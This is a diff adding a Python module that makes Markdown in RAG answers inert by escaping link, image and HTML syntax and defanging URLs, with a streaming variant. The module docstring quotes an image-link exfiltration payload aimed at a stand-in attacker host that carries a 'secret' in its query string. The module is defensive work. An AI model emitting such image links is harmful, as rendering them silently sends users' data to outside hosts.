@@ -1,0 +1,132 @@
+r"""Text for who renders Markdown: what documents and models say fetches nothing and leads nowhere.
+
+A chat client takes an answer for Markdown, and fetches `![](http://evil.example/?q=secret)` as soon
+as it is shown. So the signs are written that have CommonMark and GitHub's dialect show links,
+pictures and HTML as text: `]\(`, `&lt;img`. A bare address, which many make a link of whatever
+signs stand in it, is written as `hxxp://`. What a client runs as a program is none of this.
+"""
+
+from __future__ import annotations
+
+import re
+import string
+from dataclasses import dataclass, replace
+from itertools import pairwise
+
+from localrag.types import Answer, SupportedSentence
+
+_LETTERS = string.ascii_letters + string.digits + string.punctuation
+_LIVE = re.compile(
+    r"""
+      (?P<bracket>\])(?=[(:])          # [text](address), ![picture](address), [label]: address
+    | (?P<angle><)(?=[a-z/!?])         # <img src=...>, <https://a.example>, <!-- a comment -->
+    | (?P<reference>&)(?=\#?[a-z0-9]+;)       # &lt;img&gt;, h&#116;tp://a.example
+    | (?P<scheme>htt)(?=ps?\\?:\S)     # https://a.example, https\://a.example
+    | (?P<ftp>ft)(?=p\\?:\\?/)       # ftp://a.example
+    | (?P<www>www)\.(?=[a-z0-9-]|[^\x00-\x7f])       # www.a.example
+    | (?<![\w:/])(?P<slash>/)(?=/(?:[\w.-]|[^\x00-\x7f]))   # "//a.example/data.json" of a chart
+    """,
+    re.VERBOSE | re.IGNORECASE | re.ASCII,
+)
+
+
+@dataclass(frozen=True, slots=True)
+class Change:
+    """What stands for the code points from `start` to `end` of a text."""
+
+    start: int
+    end: int
+    text: str
+
+
+@dataclass(frozen=True, slots=True)
+class Inert:
+    """A text of which nothing is live, and how many of its words had to be changed."""
+
+    text: str
+    changed: int
+
+
+def inert(text: str) -> Inert:
+    r"""The text as Markdown that shows as that text, whatever stands in it.
+
+    >>> inert("See ![it](http://a.example/?q=1) and <b>.").text
+    'See ![it]\\(hxxp://a.example/?q=1) and &lt;b>.'
+    """
+    changes = _changes(text)
+    return Inert(_with(text, changes), _words(text, changes))
+
+
+def inert_answer(answer: Answer) -> tuple[Answer, int]:
+    """The answer with such a text, to which its sentences' offsets are those; words changed."""
+    changes = _changes(answer.text)
+
+    def moved(sentence: SupportedSentence) -> SupportedSentence:
+        start, end = (
+            offset + sum(_growth(change) for change in changes if change.end <= offset)
+            for offset in (sentence.start, sentence.end)
+        )
+        return replace(sentence, start=start, end=end)
+
+    shown = Inert(_with(answer.text, changes), _words(answer.text, changes))
+    support = tuple(map(moved, answer.support))
+    return replace(answer, text=shown.text, support=support), shown.changed
+
+
+class InertStream:
+    """The same for a text that comes in pieces, wherever they are cut.
+
+    What is given at once joins to `inert` of the whole. Words of ASCII are held until they end.
+    """
+
+    def __init__(self) -> None:
+        self._word = ""
+
+    def feed(self, piece: str) -> str:
+        """What can be given of the text so far."""
+        text = self._word + piece
+        whole = text.rstrip(_LETTERS)
+        self._word = text[len(whole) :]
+        return inert(whole).text
+
+    def finish(self) -> str:
+        """The rest of it."""
+        word, self._word = self._word, ""
+        return inert(word).text
+
+
+def _changes(text: str) -> list[Change]:
+    return [Change(*live.span(), _written(live)) for live in _LIVE.finditer(text)]
+
+
+def _words(text: str, changes: list[Change]) -> int:
+    """How many words the changes are in."""
+    same = sum(not text[one.end : other.start].strip(_LETTERS) for one, other in pairwise(changes))
+    return len(changes) - same
+
+
+def _written(live: re.Match[str]) -> str:
+    match live.lastgroup:
+        case "bracket":
+            return "]\\"
+        case "angle":
+            return "&lt;"
+        case "reference":
+            return "&amp;"
+        case "scheme" | "ftp":
+            return live[0][0] + "x" * (len(live[0]) - 1)
+        case "www":
+            return f"{live['www']}[.]"
+    return "/ "
+
+
+def _with(text: str, changes: list[Change]) -> str:
+    parts, end = [], 0
+    for change in changes:
+        parts += [text[end : change.start], change.text]
+        end = change.end
+    return "".join([*parts, text[end:]])
+
+
+def _growth(change: Change) -> int:
+    return len(change.text) - (change.end - change.start)
